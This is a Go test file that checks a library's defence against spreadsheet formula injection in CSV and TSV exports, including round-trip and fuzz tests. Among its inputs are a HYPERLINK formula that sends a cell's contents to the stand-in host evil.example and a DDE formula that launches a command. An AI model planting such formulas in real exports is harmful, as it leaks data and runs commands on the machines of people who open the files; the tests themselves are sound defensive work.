package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tilmash/tilmash/internal/sheet"
)

func TestInert(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+7 701 000 00 00", "'+7 701 000 00 00"},
		{"-ly", "'-ly"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\r=x", "'\r=x"},
		{`=HYPERLINK("http://evil.example/?"&A1,"source")`, `'=HYPERLINK("http://evil.example/?"&A1,"source")`},
		{"'=1", "''=1"}, // so that Restore is exact
		{"''-1", "'''-1"},
		{"'quoted'", "'quoted'"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"", ""},
		{"Алматы", "Алматы"},
	}
	for _, tt := range tests {
		if got := sheet.Inert(tt.in); got != tt.want {
			t.Errorf("Inert(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := sheet.Restore(sheet.Inert(tt.in)); got != tt.in {
			t.Errorf("Restore(Inert(%q)) = %q", tt.in, got)
		}
	}
}

// The CSV quotes what it neutralised; everything else is quoted exactly
// as encoding/csv quotes it, and encoding/csv reads it all back.
func TestWriter(t *testing.T) {
	rows := [][]string{
		{"en", "ru", "kk"},
		{"=1+1", "a,b", `say "hi"`},
		{" lead", "", "-5"},
		{"line\nbreak", `\.`, "@x"},
	}
	var got, want bytes.Buffer
	w := sheet.NewCSV(&got)
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	cw := csv.NewWriter(&want)
	cw.WriteAll(rows)
	wantText := strings.NewReplacer("=1+1", `"'=1+1"`, ",-5", `,"'-5"`, ",@x", `,"'@x"`).Replace(want.String())
	if got.String() != wantText {
		t.Errorf("CSV:\n%s\nwant:\n%s", got.String(), wantText)
	}
	back, err := csv.NewReader(&got).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range back {
		for j, c := range r {
			if sheet.Restore(c) != rows[i][j] {
				t.Errorf("row %d cell %d read back as %q, want %q", i, j, sheet.Restore(c), rows[i][j])
			}
		}
	}
	var tsv bytes.Buffer
	tw := sheet.NewTSV(&tsv, false)
	tw.WriteAll([][]string{{"# en", "kk"}, {"=cmd|' /C calc'!A0", "x"}})
	if tsv.String() != "# en\tkk\n'=cmd|' /C calc'!A0\tx\n" {
		t.Errorf("TSV = %q", tsv.String())
	}
}

func FuzzInert(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''", "-", "\t", "a", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		in := sheet.Inert(s)
		if strings.IndexByte("=+-@\t\r", firstByte(in)) >= 0 && in != "" {
			t.Errorf("Inert(%q) = %q starts with a formula character", s, in)
		}
		if sheet.Restore(in) != s {
			t.Errorf("Restore(Inert(%q)) = %q", s, sheet.Restore(in))
		}
		if sheet.Inert(sheet.Restore(in)) != in {
			t.Errorf("Inert(Restore(%q)) != itself", in)
		}
	})
}

func firstByte(s string) byte {
	if s == "" {
		return 0
	}
	return s[0]
}
